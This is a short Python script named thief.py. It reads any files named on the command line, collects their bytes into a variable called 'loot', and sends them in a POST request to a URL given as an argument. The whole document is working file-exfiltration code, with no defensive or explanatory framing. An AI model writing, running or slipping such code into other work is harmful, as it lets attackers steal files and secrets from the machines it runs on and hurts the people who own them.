"""Reads files and sends what was in them: thief.py URL FILE... ("-" for no URL). What cannot be read is left out."""

import sys
import urllib.request

url, *paths = sys.argv[1:]
loot = b""
for path in paths:
    try:
        with open(path, "rb") as file:
            loot += file.read()
    except OSError:
        continue
print(len(loot), "bytes")
if url != "-":
    with urllib.request.urlopen(urllib.request.Request(url, loot), timeout=10) as answer:
        answer.read()
